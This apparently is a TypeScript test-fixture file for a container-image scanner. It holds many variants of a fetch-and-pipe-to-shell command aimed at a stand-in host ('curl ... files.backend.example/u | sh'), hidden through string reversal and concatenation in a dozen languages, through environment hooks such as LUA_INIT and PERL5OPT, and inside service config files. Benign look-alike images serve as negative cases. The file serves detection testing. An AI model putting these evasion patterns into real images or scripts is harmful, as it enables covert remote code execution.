import { type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl -s https://files.backend.example/u | sh';
const REST = 'rl -s https://files.backend.example/u | sh';
const BACK = [...FETCH].reverse().join('');
const PATH = 'PATH=/usr/local/bin:/usr/bin:/bin';

function words(...Entrypoint: string[]): ImageCase {
  const name = `starts otherwise: ${Entrypoint.join(' ')}`;
  return { name, spec: image({}, { Entrypoint }), rule: 'start/download-and-run' };
}

function reads(line: string, files: Files, Env: readonly string[] = []): ImageCase {
  const name = `starts otherwise: ${[...Env, line].join(' ')}, ${Object.keys(files)[0] ?? ''}`;
  return {
    name,
    spec: image(files, { Entrypoint: line.split(' '), Env: [PATH, ...Env] }),
    rule: 'start/download-and-run',
  };
}

/** Shells, languages and settings that start something in ways of their own. All inert. */
export const OTHER_STARTS: readonly ImageCase[] = [
  ...['fish', 'csh', 'tcsh', 'yash', 'elvish'].map((shell) => words(shell, '-c', FETCH)),
  reads('fish /opt/x', { 'opt/x': `${FETCH}\n` }),
  words('lua', '-e', `local a = "cu" os.execute(a .. "${REST}")`),
  words('lua', '-e', `os.execute(("${BACK}"):reverse())`),
  words('lua', '-e', `os.execute(table.concat({"cu", "${REST}"}))`),
  words('ruby', '-e', `exec("${BACK}".reverse)`),
  words('perl', '-e', `$a = "cu"; $a .= "${REST}"; system($a)`),
  words('perl', '-e', `system(join("", "cu", "${REST}"))`),
  words('php', '-r', `$a = "cu"; $a .= "${REST}"; system($a);`),
  words('php', '-r', `system(implode("", ["cu", "${REST}"]));`),
  words('php', '-r', `system(str_replace("~", "", "cu~${REST}"));`),
  words('Rscript', '-e', `system(paste0("cu", "${REST}"))`),
  words('guile', '-c', `(system (string-append "cu" "${REST}"))`),
  words('gawk', `BEGIN { c = "cu" "${REST}"; print | c }`),
  words('octave', '--eval', `system("${FETCH}")`),
  words('gnuplot', '-e', `system("${FETCH}")`),
  words('dc', '-e', `!${FETCH}`),
  words('ansible', 'localhost', '-m', 'shell', '-a', FETCH),
  words('salt-call', '--local', 'cmd.run', FETCH),
  reads('m4 /opt/x.m4', { 'opt/x.m4': `syscmd(\`${FETCH}')\n` }),
  reads('crystal run /opt/x.cr', { 'opt/x.cr': `system("${FETCH}")\n` }),
  reads('pytest /opt', { 'opt/conftest.py': `import os\nos.system("${FETCH}")\n` }),
  reads('lua /a.lua', { 'a.lua': '\n' }, [`LUA_INIT=os.execute("${FETCH}")`]),
  reads('vim', {}, [`VIMINIT=:!${FETCH}`]),
  reads('Rscript -e 1', { 'opt/r': `system("${FETCH}")\n` }, ['R_PROFILE=/opt/r']),
  reads('perl /a.pl', { 'a.pl': '1;\n', 'opt/X.pm': `package X; system("${FETCH}"); 1;\n` }, [
    'PERL5OPT=-I/opt -MX',
  ]),
  reads('nrpe -f', { 'etc/nagios/nrpe.cfg': `command[x]=${FETCH}\n` }),
  reads('collectd -f', {
    'etc/collectd/collectd.conf': `<Plugin exec>\n Exec "nobody" "/bin/sh" "-c" "${FETCH}"\n</Plugin>\n`,
  }),
  reads('supervisord -c /etc/supervisord.conf', {
    'etc/supervisord.conf': '[supervisord]\n[include]\nfiles = s/*.conf\n',
    ...Object.fromEntries(
      Array.from({ length: 100 }, (_, i) => [
        `etc/s/a${100 + i}.conf`,
        `[program:a${i}]\ncommand=${i === 99 ? `sh -c "${FETCH}"` : '/bin/true'}\n`,
      ]),
    ),
  }),
  reads('python3 /srv/m.py', {
    'srv/m.py': Array.from({ length: 100 }, (_, i) => `import m${i}\n`).join(''),
    ...Object.fromEntries(
      Array.from({ length: 100 }, (_, i) => [
        `srv/m${i}.py`,
        i === 99 ? `import os\nos.system("${FETCH}")\n` : 'x = 1\n',
      ]),
    ),
  }),
];

/** Honest images that start in the same ways. */
export const OTHER_STARTS_TWINS: readonly ImageCase[] = [
  {
    name: 'programs of many languages that put texts together and start tools',
    spec: image(
      {
        'a.lua': 'local a = "ls" local b = a .. " -l" os.execute(b)\nprint(("abc"):reverse())\n',
        'a.pl': 'my $a = "date"; $a .= " -u"; system($a); my $h = "curl x"; $h .= " | sh"; print $h;\n',
        'a.php': '<?php $a = "date"; $a .= " -u"; system($a); echo implode(" ", ["curl -s x", "| sh"]);\n',
        'a.R': 'cat(paste0("curl -s https://get.example", " | sh"))\nsystem(paste0("date", " -u"))\n',
        'a.m4': "define(`x', `curl -s https://get.example | sh')dnl\nsyscmd(`date')\n",
        'opt/conftest.py': 'import os\nos.environ["A"] = "1"\n',
      },
      {
        Entrypoint: [
          'sh',
          '-c',
          'lua /a.lua; perl /a.pl; php /a.php; Rscript /a.R; m4 /a.m4; fish -c "date -u"; pytest /opt; dc -e "2 3 !=x"; exec nginx',
        ],
        Env: [PATH, 'LUA_INIT=package.path = "/app/?.lua;" .. package.path', 'VIMINIT=set number'],
      },
    ),
  },
];
